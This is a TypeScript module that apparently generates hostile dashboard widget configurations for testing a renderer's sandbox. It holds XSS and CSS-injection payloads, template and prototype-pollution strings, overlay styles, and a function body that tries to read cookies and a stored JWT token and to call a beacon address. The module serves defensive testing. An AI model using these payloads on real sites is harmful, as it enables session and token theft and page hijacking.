// biome-ignore-all lint/suspicious/noTemplateCurlyInString: patterns of widgets are written this way
import { randomFrom } from './covering.ts';
import type { DashboardFile } from './dashboards.ts';
import { type Field, fieldsOf } from './schema.ts';
import { type Config, type ShownEntities, type SystemType, setAt, type Variant, variantsOf } from './widgets.ts';

/** What a script of a dashboard leaves in the page where it gets at it. */
export const REACHED = 'reachedByADashboard';

/** Texts that do harm where they are taken for something else; `address` is one elsewhere that must not be asked. */
export const PAYLOADS: Readonly<Record<string, (address: string) => string>> = {
  markup: (address) =>
    `"><img src="${address}" onerror="window.${REACHED}=1"><script>window.${REACHED}=1</script><svg onload="window.${REACHED}=1"><a href="javascript:window.${REACHED}=1">x</a><iframe srcdoc="<script>top.${REACHED}=1</script>"></iframe>`,
  css: (address) =>
    `red;} html, body, nav, header{--${REACHED}:1;display:none;background-image:url(${address})} @import "${address}"; x{color:red`,
  url: (address) => `url(${address}) url("${address}"), red`,
  address: (address) => address,
  script: () => `javascript:window.${REACHED}=1`,
  pattern: () =>
    '${constructor.constructor("return this")()} {{constructor.constructor("return this")()}} ${__proto__} %s $& $1',
};

/** Tries everything that a function of a dashboard must not get at, then returns a text with markup. */
export const hostileBody = (address: string): string => `
var found = [];
function attempt(make) { try { var got = make(); if (got) found.push(String(got)); } catch (error) {} }
attempt(function () { return window; });
attempt(function () { return parent; });
attempt(function () { return document.cookie; });
attempt(function () { return localStorage.getItem('jwt_token'); });
attempt(function () { return fetch('${address}'); });
attempt(function () { return new XMLHttpRequest(); });
attempt(function () { return new WebSocket('${address}'); });
attempt(function () { return importScripts('${address}'); });
attempt(function () { location.href = '${address}'; });
attempt(function () { Object.prototype.${REACHED} = 1; Array.prototype.map = null; });
attempt(function () { return (0, Function)('return this')().document; });
return '<img src="${address}" onerror="window.${REACHED}=1">' + found.join();
`;

/** Values of the wrong kind for nearly everything. */
const WRONG: readonly unknown[] = [
  null,
  42,
  -1e308,
  1e308,
  'text',
  '',
  true,
  [],
  ['a', null, 7],
  {},
  { a: 1 },
  { toString: 1, valueOf: 2 },
  [[[[{ deep: [] }]]]],
];

/** Members that say what a thing is; they are kept, so that the rest is looked at. */
const KEPT = new Set([
  'type',
  'entityAliasId',
  'entityType',
  'entityId',
  'targetDeviceAliasIds',
  'id',
  'provider',
  'widgetMode',
]);

const STYLE = (address: string) => ({
  position: 'fixed',
  inset: 0,
  zIndex: 99_999,
  top: '-500px',
  width: '9999px',
  height: '9999px',
  transform: 'translate(-900px, -900px) scale(40)',
  background: `url(${address})`,
  backgroundImage: `url("${address}")`,
  borderImageSource: `url(${address})`,
  listStyleImage: `image-set("${address}" 1x)`,
  cursor: `url(${address}), auto`,
  filter: `url(${address}#f)`,
  maskImage: `url(${address})`,
  '--surface': `url(${address})`,
  color: `red; background: url(${address})`,
});

/** Replaces texts at every depth. @param path names of the members to it */
function withTexts(value: unknown, path: string, text: (path: string) => string): unknown {
  if (typeof value === 'string') return text(path);
  if (Array.isArray(value)) return value.map((item, at) => withTexts(item, `${path}.${at}`, text));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, member]) => [
      name,
      KEPT.has(name) ? member : withTexts(member, `${path}.${name}`, text),
    ]),
  );
}

const isAddressField = ({ editor, path }: Field) =>
  ['html', 'markdown', 'image'].includes(editor ?? '') || /url$/i.test(path.at(-1) ?? '');

/** Puts a payload into each setting. Markup and pictures may name addresses elsewhere; those fields get one that is counted apart. */
function spoil(
  target: Record<string, unknown>,
  fields: readonly Field[],
  text: (path: string) => string,
  body: string,
) {
  for (const field of fields) {
    const { path, editor, type, choices, element } = field;
    const name = path.join('.');
    if (KEPT.has(path.at(-1) ?? '') || choices.length > 0) continue;
    if (type === 'boolean') setAt(target, path, true);
    else if (type === 'array') setAt(target, path, [structuredClone(typeof element === 'object' ? element : 'a')]);
    else if (editor === 'javascript') setAt(target, path, body);
    else if (type === 'string') setAt(target, path, text(isAddressField(field) ? `allowed/${name}` : name));
  }
}

/** One widget of a type with a payload in every text, and hostile functions. @param beacon address whose requests are counted */
function hostileVariant(type: SystemType, kind: string, beacon: string, shown: ShownEntities): Variant {
  const made = variantsOf(type, shown)[0] as Variant;
  const config = structuredClone(made.config);
  const payload = PAYLOADS[kind] as (address: string) => string;
  const addressOf = (path: string) => `${beacon}/${kind}/${type.bundleAlias}/${type.alias}/${path}`;
  const text = (path: string) => payload(addressOf(path));
  const { settings, datasources, alarmSource, actions, timewindow, targetDeviceAliasIds, ...rest } = config;
  const body = hostileBody(addressOf('function'));
  const texts = withTexts(rest, '', text) as Record<string, unknown>;
  const { settingsSchema, dataKeySettingsSchema } = type.descriptor;
  spoil(settings, fieldsOf(settingsSchema), text, body);
  for (const source of [...(datasources ?? []), ...(alarmSource ? [alarmSource] : [])]) {
    if (source.name !== undefined) source.name = text('datasource');
    for (const key of source.dataKeys) {
      const keySettings = (key.settings ?? {}) as Record<string, unknown>;
      spoil(keySettings, fieldsOf(dataKeySettingsSchema), text, body);
      Object.assign(key, {
        label: text('label'),
        color: text('key color'),
        units: text('key units'),
        settings: keySettings,
      });
      if (key.type === 'function')
        key.funcBody = `${hostileBody(addressOf('function')).replace('return', 'void')}\nreturn 5;`;
      Object.assign(key, { usePostProcessing: true, postFuncBody: hostileBody(addressOf('post')) });
    }
  }
  return {
    type,
    failing: kind,
    config: {
      ...texts,
      settings,
      ...(datasources && { datasources }),
      ...(alarmSource && { alarmSource }),
      ...(targetDeviceAliasIds !== undefined && { targetDeviceAliasIds }),
      ...(timewindow !== undefined && { timewindow }),
      actions: withTexts(
        {
          headerButton: [
            {
              id: 'a',
              name: 'a',
              icon: 'a',
              type: 'custom',
              customFunction: body,
              showWidgetActionFunction: body,
              useShowWidgetActionFunction: true,
            },
          ],
        },
        'action',
        text,
      ),
      showTitle: true,
      title: text('title'),
      titleTooltip: text('tooltip'),
      showTitleIcon: true,
      titleIcon: text('icon'),
      backgroundColor: text('ground'),
      color: text('color'),
      iconColor: text('icon color'),
      iconSize: text('icon size'),
      units: text('units'),
      noDataDisplayMessage: text('no data'),
      titleStyle: STYLE(addressOf('title style')),
      widgetStyle: STYLE(addressOf('widget style')),
    } as Config,
  };
}

/** A widget of each type with a payload of each kind in every text. */
export function hostileVariants(
  types: readonly SystemType[],
  kinds: readonly string[],
  beacon: string,
  shown: ShownEntities,
): Variant[] {
  return kinds.flatMap((kind) => types.map((type) => hostileVariant(type, kind, beacon, shown)));
}

const DATA = new Set(['datasources', 'alarmSource', 'targetDeviceAliasIds']);

/** Replaces members by values of the wrong kind, as chance has it. */
function withWrong(value: unknown, share: number, random: () => number, depth: number): unknown {
  if (depth > 0 && random() < share) return structuredClone(WRONG[Math.floor(random() * WRONG.length)]);
  if (Array.isArray(value)) return value.map((item) => withWrong(item, share, random, depth + 1));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, member]) => [
      name,
      // Without settings there is little to look at.
      // And without data nothing is drawn.
      name === 'settings' && random() > share
        ? withWrong(member, share, random, 1)
        : withWrong(member, DATA.has(name) ? share / 8 : share, random, depth + 1),
    ]),
  );
}

/** Widgets of each type of whose members one in six is of the wrong kind, always the same ones. */
export function wrongVariants(types: readonly SystemType[], count: number, shown: ShownEntities): Variant[] {
  return types.flatMap((type) => {
    const random = randomFrom(`wrong ${type.bundleAlias}/${type.alias}`);
    const made = variantsOf(type, shown).filter(({ failing }) => !failing);
    return Array.from({ length: count }, (_, at): Variant => {
      const { config } = made[at % made.length] as Variant;
      return { type, failing: 'wrong kinds', config: withWrong(config, 1 / 6, random, 0) as Config };
    });
  });
}

/** The dashboard with a payload in everything that is not of its widgets. */
export function withHostileFrame(file: DashboardFile, kind: string, beacon: string): DashboardFile {
  const text = (path: string) => (PAYLOADS[kind] as (address: string) => string)(`${beacon}/${kind}/dashboard/${path}`);
  const { configuration } = file;
  const { states, entityAliases } = configuration as unknown as {
    states: { default: { layouts: { main: { gridSettings: object } } } };
    entityAliases: Record<string, object>;
  };
  const { main } = states.default.layouts;
  const [alias] = Object.keys(entityAliases);
  return {
    ...file,
    image: text('image'),
    configuration: {
      ...configuration,
      description: text('description'),
      states: {
        default: {
          name: text('state'),
          root: true,
          layouts: {
            main: {
              ...main,
              gridSettings: {
                ...main.gridSettings,
                backgroundColor: text('ground'),
                backgroundSizeMode: text('size'),
                backgroundImageUrl: text('allowed/image'),
              },
            },
          },
        },
        [text('id')]: { name: text('name'), root: false, layouts: {} },
      },
      entityAliases: {
        ...entityAliases,
        other: { id: 'other', alias: text('alias'), filter: { type: text('type') } },
        [String(alias)]: { ...entityAliases[String(alias)], alias: text('alias') },
      },
      filters: {
        f: {
          id: 'f',
          filter: text('filter'),
          editable: true,
          keyFilters: [
            {
              key: { type: 'TIME_SERIES', key: text('key') },
              valueType: 'STRING',
              predicates: [
                {
                  keyFilterPredicate: {
                    type: 'STRING',
                    operation: text('operation'),
                    value: { defaultValue: text('value') },
                  },
                  userInfo: { editable: true, label: text('label') },
                },
              ],
            },
          ],
        },
      },
      settings: {
        ...(configuration.settings as object),
        titleColor: text('title colour'),
        showDashboardLogo: true,
        dashboardLogoUrl: text('logo'),
        showFilters: true,
        showEntitiesSelect: true,
      },
    },
  };
}
